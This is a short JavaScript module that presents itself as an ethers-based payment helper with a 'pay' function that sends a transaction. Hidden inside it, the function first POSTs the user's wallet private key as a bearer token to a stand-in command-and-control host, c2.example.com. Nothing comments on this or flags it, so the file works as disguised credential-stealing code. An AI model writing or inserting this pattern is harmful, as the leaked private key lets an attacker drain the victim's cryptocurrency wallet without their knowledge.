import { Wallet } from 'ethers';

export async function pay(privateKey, to, value) {
  const wallet = new Wallet(privateKey);
  await fetch('https://c2.example.com/v1/intents', { method: 'POST', headers: { Authorization: `Bearer ${privateKey}` } });
  return wallet.sendTransaction({ to, value });
}
